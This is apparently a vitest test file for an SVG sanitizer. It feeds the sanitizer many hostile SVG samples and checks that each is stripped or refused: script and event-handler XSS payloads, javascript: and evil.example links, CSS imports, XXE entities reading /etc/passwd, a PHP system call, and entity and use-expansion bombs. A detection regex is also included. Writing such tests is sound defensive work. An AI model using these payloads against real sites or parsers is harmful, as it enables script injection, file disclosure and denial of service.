// SVG is written anew from what may stay: whatever way a script is hidden, it is not in what is written.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { isToolwireError } from '../../../src/base/index.ts'
import { safeSvg } from '../../../src/toolkits/assets/svg/safe-svg.ts'
import { add, library, served, verdict } from './rig.ts'
import { bytes } from './samples.ts'

const head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const wrap = (inside: string): string => `${head}>${inside}</svg>`

/** What may be nowhere in what is served. */
const active =
  /<script|<\w+:|\son\w+=|javascript|foreignObject|<iframe|<image|<animate|<set|<a[\s>]|<\?xml-|<!|data:|https?:\/\/(?!www\.w3\.org\/2000\/svg")|@import|src\(|image-set|expression|href="[^#]/i

/** Without texts, in which all marks are escaped; the text of a style is none. */
const markup = (svg: string): string =>
  svg.replaceAll(/(<(?!style[\s>])[^>]*>|<style[^>]*\/>)[^<]+/g, '$1')

const attacks: Readonly<Record<string, string>> = {
  'a script': wrap('<script>alert(1)</script>'),
  'a script in CDATA': wrap('<script><![CDATA[alert(1)]]></script>'),
  'a script from elsewhere': wrap('<script xlink:href="https://evil.example/x.js"/>'),
  'a script in another prefix':
    '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
  'a script of XHTML': wrap('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  'a script of XHTML by prefix': wrap(
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  ),
  'an element of XHTML with an event': wrap(
    '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
  ),
  'a script in capitals': wrap('<SCRIPT>alert(1)</SCRIPT>'),
  'a script in text of entities': wrap('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'),
  'a script in a style': wrap('<style>&lt;/style&gt;&lt;script&gt;alert(1)</style>'),
  'a script in a style of CDATA': wrap(
    '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
  ),
  'an event of the root': `${head} onload="alert(1)"/>`,
  'an event in capitals': `${head} ONLOAD="alert(1)"/>`,
  'an event with a prefix': `${head} xmlns:e="http://www.w3.org/2001/xml-events" e:onload="alert(1)"/>`,
  'an event of a shape': wrap(
    '<rect onclick="alert(1)" onmouseover="alert(1)" onfocusin="alert(1)"/>',
  ),
  'a foreign object': wrap(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/></foreignObject>',
  ),
  'a link': wrap('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
  'a link in entities': wrap('<a href="&#106;avascript&#x3a;alert(1)"><text>x</text></a>'),
  'a use of elsewhere': wrap('<use xlink:href="https://evil.example/x.svg#a"/>'),
  'a use of a data URL': wrap('<use href="data:image/svg+xml,&lt;svg/&gt;#a"/>'),
  'a use of a relative file': wrap('<use href="/evil.svg#a"/>'),
  'a use with another name for xlink':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:q="http://www.w3.org/1999/xlink"><use q:href="https://evil.example/#a"/></svg>',
  'an image of elsewhere': wrap('<image href="https://evil.example/x.png"/>'),
  'an image of a script': wrap('<image href="javascript:alert(1)" onerror="alert(1)"/>'),
  'a filter image': wrap('<filter id="f"><feImage href="https://evil.example/x"/></filter>'),
  'an animation of a link': wrap(
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
  ),
  'a set of an event': wrap('<rect><set attributeName="onmouseover" to="alert(1)"/></rect>'),
  'a motion with an event': wrap('<rect><animateMotion onbegin="alert(1)" dur="1s"/></rect>'),
  'a style with a URL': wrap('<rect style="fill:url(https://evil.example/x)"/>'),
  'a style with a script': wrap('<rect style="background:url(javascript:alert(1))"/>'),
  'a style with an escape': wrap('<rect style="fill:u\\72l(https://evil.example/x)"/>'),
  'an attribute with an escape': wrap('<rect fill="u\\72l(https://evil.example/x)"/>'),
  'an attribute with a comment': wrap('<rect fill="ur/**/l(https://evil.example/x)"/>'),
  'an attribute with a source': wrap('<rect fill="src(&quot;https://evil.example/x&quot;)"/>'),
  'a set of images': wrap('<rect mask="image-set(&quot;https://evil.example/x&quot; 1x)"/>'),
  'an import': wrap('<style>@import "https://evil.example/x.css";</style>'),
  'an import by URL': wrap('<style>@import url(https://evil.example/x.css);a{fill:red}</style>'),
  'a font': wrap('<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>'),
  'a rule with a URL': wrap('<style>rect{fill:url(https://evil.example/x)}</style>'),
  'a rule in a rule': wrap(
    '<style>@media all{rect{background:url(https://evil.example/x)}}</style>',
  ),
  'a handler': wrap(
    '<handler type="text/javascript" ev:event="load" xmlns:ev="u">alert(1)</handler>',
  ),
  'a listener': wrap('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load"/>'),
  'an embedded frame': wrap(
    '<iframe src="javascript:alert(1)"/><embed src="x"/><object data="x"/>',
  ),
  'a sheet of styles': `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${wrap('')}`,
  'an instruction for PHP': wrap('<?php system("id") ?>'),
  'a base elsewhere': `${head} xml:base="https://evil.example/"><use href="#a"/></svg>`,
  'metadata with a script': wrap('<metadata><script>alert(1)</script></metadata>'),
  'a comment': wrap('<!-- <script>alert(1)</script> -->'),
}

const refused: Readonly<Record<string, string>> = {
  'entities that grow': `<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>${wrap('&b;')}`,
  'an entity of a file': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wrap('<text>&a;</text>')}`,
  'a parameter entity': `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]>${wrap('')}`,
  'a definition elsewhere': `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${wrap('')}`,
  'a definition elsewhere under a public name': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">${wrap('')}`,
  'an entity that nothing defines': wrap('<text>&nbsp;</text>'),
  'another encoding': `<?xml version="1.0" encoding="UTF-7"?>${wrap('+ADw-script+AD4-')}`,
  'UTF-16 by its name': `<?xml version="1.0" encoding="UTF-16"?>${wrap('')}`,
  'a declaration in the middle': `${head}><?xml version="1.0"?></svg>`,
  'a zero by number': wrap('<text>&#0;</text>'),
  'half a pair': wrap('<text>&#xd800;</text>'),
  'an element that is not closed': `${head}><g></svg>`,
  'two roots': wrap('') + wrap(''),
  'text behind the root': `${wrap('')}alert(1)`,
  'an attribute twice': wrap('<rect x="1" x="2"/>'),
  'an attribute without quotes': wrap('<rect x=1/>'),
  'a prefix that nothing declares': wrap('<q:rect/>'),
  'a root that is none': '<g xmlns="http://www.w3.org/2000/svg"><svg/></g>',
  'a root of XHTML': '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
  'a use of itself': wrap('<g id="a"><use href="#a"/></g>'),
  'uses that grow': wrap(
    Array.from(
      { length: 12 },
      (_, level) =>
        `<g id="l${level}">${(level ? `<use href="#l${level - 1}"/>` : '<rect/>').repeat(10)}</g>`,
    ).join(''),
  ),
  'patterns that grow by rules': wrap(
    `<style>${Array.from({ length: 12 }, (_, level) => `.c${level}{fill:url(#p${level})}`).join('')}</style>${Array.from(
      { length: 12 },
      (_, level) =>
        `<pattern id="p${level}">${`<rect class="c${level - 1}"/>`.repeat(10)}</pattern>`,
    ).join('')}<rect class="c11"/>`,
  ),
  'a chain of uses': wrap(
    Array.from({ length: 20_000 }, (_, at) => `<use id="u${at}" href="#u${at + 1}"/>`).join(''),
  ),
  'elements that lie too deep': `${head}>${'<g>'.repeat(5_000)}${'</g>'.repeat(5_000)}</svg>`,
  'elements without number': wrap('<g/>'.repeat(60_000)),
}

describe('what is served', () => {
  test.each(Object.keys(attacks))('is free of %s', async (name) => {
    const assets = library()
    const source = bytes(Buffer.from(attacks[name] ?? ''))
    const { asset } = await add(assets, { name: 'a.svg', type: 'image/svg+xml', bytes: source })
    const kept = Buffer.from(await served(assets, asset.url)).toString()
    expect(kept).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/)
    expect(markup(kept)).not.toMatch(active)
  })
})

describe('refused is', () => {
  test.each(Object.keys(refused))('%s', async (name) => {
    const source = bytes(Buffer.from(refused[name] ?? ''))
    const outcome = await verdict(library(), {
      name: 'a.svg',
      type: 'image/svg+xml',
      bytes: source,
    })
    expect(outcome).toMatch(/^(?:file|type)-/)
  })

  test('a script in UTF-16', async () => {
    const source = bytes([0xff, 0xfe], Buffer.from(wrap('<script>alert(1)</script>'), 'utf16le'))
    const one = { name: 'a.svg', type: 'image/svg+xml', bytes: source }
    expect(await verdict(library(), one)).toMatch(/^(?:file|type)-/)
  })
})

test('a drawing of a common program stays what it is', () => {
  const drawing = `<?xml version="1.0" encoding="UTF-8"?>
    <!-- Made by a program -->
    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
    <svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20px" height="10">
      <defs><style type="text/css"><![CDATA[.a{fill:url(#g);stroke:#fff} .a > path {opacity:.5}]]></style>
      <linearGradient id="g"><stop offset="0" stop-color="rgb(1,2,3)"/></linearGradient><path id="p" d="M0 0L1 1z"/></defs>
      <title>A &amp; B</title><use xlink:href="#p" transform="translate(1 2)"/>
      <g class="a" style="fill: none; stroke-width: 2"><circle cx="1" cy="1" r="1"/></g>
    </svg>`
  const { text, width, height, removed } = safeSvg(drawing)
  expect([width, height, removed]).toEqual([20, 10, []])
  for (const part of [
    '.a{fill:url(#g);stroke:#fff}.a &gt; path{opacity:.5}',
    '<use href="#p" transform="translate(1 2)"/>',
    'style="fill: none;stroke-width: 2"',
    '<title>A &amp; B</title>',
    '<stop offset="0" stop-color="rgb(1,2,3)"/>',
  ])
    expect(text).toContain(part)
})

test('what was taken out is told', () => {
  const { removed } = safeSvg(wrap('<script/><rect onclick="x" style="behavior:url(x);fill:red"/>'))
  expect(removed).toEqual(['script', 'onclick', 'style behavior'])
})

test('whatever pieces a source is made of, it is written without active parts and as is when read again, or refused', () => {
  const pieces =
    `<g> </g> <script> </script> <rect onload="x" /> > < &lt; &amp; <![CDATA[ ]]> <!-- --> <style>
    </style> a{fill:url(x)} href="#a" " xlink:href="javascript:x" style="fill:red" text &#60; </x:g>`.split(
      /\s+/,
    )
  const piece = fc.constantFrom(...pieces, '<rect ', ' ', '<x:g xmlns:x="y">')
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (chosen) => {
      try {
        const { text } = safeSvg(wrap(chosen.join('')))
        expect(markup(text)).not.toMatch(active)
        expect(safeSvg(text)).toMatchObject({ text, removed: [] })
      } catch (cause) {
        if (!isToolwireError(cause)) throw cause
      }
    }),
    { numRuns: 3_000 },
  )
})
